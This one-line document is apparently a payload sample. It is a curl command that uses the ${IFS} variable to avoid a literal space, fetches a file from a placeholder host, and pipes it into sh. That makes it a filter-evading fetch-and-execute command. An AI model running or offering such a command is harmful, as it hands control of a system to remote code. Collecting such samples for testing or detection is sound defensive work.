curl${IFS}https://pdf-tools.example/x|sh
